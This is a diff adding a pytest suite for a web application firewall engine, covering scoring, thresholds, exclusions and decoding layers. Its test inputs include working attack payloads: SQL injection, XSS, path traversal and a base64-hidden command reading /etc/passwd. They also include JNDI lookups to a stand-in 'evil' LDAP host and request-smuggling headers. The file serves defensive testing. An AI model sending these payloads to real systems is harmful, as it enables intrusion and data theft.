@@ -1,0 +1,111 @@
+"""The engine as a library: verdicts, scoring, paranoia, exclusions, decoding layers."""
+
+from waf import Engine, EngineConfig, Exclusion, Request, inspect
+
+
+def test_sqli_in_query_is_blocked_with_location_and_text():
+    v = inspect(Request.make("GET", "/search?q=1%27%20OR%201%3D1--"))
+    assert v.blocked
+    assert "sqli" in v.categories
+    m = next(m for m in v.matches if m.category == "sqli")
+    assert m.location == "query:q"
+    assert "OR 1=1" in m.matched
+
+
+def test_plain_request_passes_with_zero_score():
+    v = inspect(Request.make("GET", "/products?page=2&sort=price", {"User-Agent": "Mozilla/5.0"}))
+    assert not v.blocked and v.score == 0 and v.matches == ()
+
+
+def test_score_is_sum_of_rule_severities_once_per_rule():
+    v = inspect(Request.make("GET", "/?a=<script>alert(1)</script>&b=<script>x</script>"))
+    assert v.score == sum(m.score for m in v.matches)
+    assert len({m.rule_id for m in v.matches}) == len(v.matches)
+
+
+def test_threshold_decides_blocking():
+    req = Request.make("GET", "/?q=<script>alert(1)</script>")
+    low = Engine(EngineConfig(threshold=5)).inspect(req)
+    high = Engine(EngineConfig(threshold=10_000)).inspect(req)
+    assert low.blocked and not high.blocked and high.score == low.score > 0
+
+
+def test_exclusion_by_path_and_parameter_drops_only_that_match():
+    cfg = EngineConfig(exclusions=(Exclusion(path="/cms/", params=frozenset({"content"})),))
+    eng = Engine(cfg)
+    rich = "<p>hello</p><script>alert(1)</script>"
+    assert not eng.inspect(
+        Request.make(
+            "POST", "/cms/page", {"Content-Type": "application/x-www-form-urlencoded"}, "content=" + rich
+        )
+    ).blocked
+    assert eng.inspect(
+        Request.make(
+            "POST", "/cms/page", {"Content-Type": "application/x-www-form-urlencoded"}, "title=" + rich
+        )
+    ).blocked
+    assert eng.inspect(
+        Request.make(
+            "POST", "/other", {"Content-Type": "application/x-www-form-urlencoded"}, "content=" + rich
+        )
+    ).blocked
+
+
+def test_exclusion_by_rule_id():
+    req = Request.make("GET", "/?q=<script>alert(1)</script>")
+    ids = {m.rule_id for m in inspect(req).matches}
+    eng = Engine(EngineConfig(exclusions=(Exclusion(rule_ids=frozenset(ids)),)))
+    assert eng.inspect(req).score == 0
+
+
+def test_disabled_rules_and_paranoia_filter_rules():
+    assert all(r.paranoia <= 1 for r in Engine().rules)
+    some = Engine().rules[0].id
+    assert some not in {r.id for r in Engine(EngineConfig(disabled_rules=frozenset({some}))).rules}
+
+
+def test_double_url_encoding_and_unicode_escapes_are_decoded():
+    assert inspect(Request.make("GET", "/?f=%252e%252e%252fetc%252fpasswd")).blocked
+    assert inspect(
+        Request.make(
+            "POST",
+            "/api",
+            {"Content-Type": "application/json"},
+            '{"q": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}',
+        )
+    ).blocked
+    assert inspect(Request.make("GET", "/?q=%u003cscript%u003ealert(1)")).blocked
+
+
+def test_base64_layer_is_inspected():
+    import base64
+
+    payload = base64.b64encode(b"; cat /etc/passwd").decode()
+    v = inspect(Request.make("GET", f"/?data={payload}"))
+    assert v.blocked and any(m.location.endswith("|base64") for m in v.matches)
+
+
+def test_json_nested_in_form_value_is_flattened():
+    v = inspect(
+        Request.make(
+            "POST",
+            "/f",
+            {"Content-Type": "application/x-www-form-urlencoded"},
+            "meta=%7B%22a%22%3A%7B%22b%22%3A%22%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D%22%7D%7D",
+        )
+    )
+    assert v.blocked and "jndi" in v.categories
+
+
+def test_smuggling_headers_are_flagged():
+    v = inspect(
+        Request.make("POST", "/", [("Content-Length", "4"), ("Transfer-Encoding", "chunked")], "0\r\n\r\n")
+    )
+    assert v.blocked and "smuggling" in v.categories
+    v2 = inspect(Request.make("POST", "/", [("Transfer-Encoding", "xchunked")], "x"))
+    assert "smuggling" in v2.categories
+
+
+def test_verdict_serializes_to_plain_dict():
+    d = inspect(Request.make("GET", "/?x=${jndi:ldap://evil/a}")).to_dict()
+    assert d["blocked"] is True and d["matches"][0]["rule_id"] > 0 and "jndi" in d["categories"]
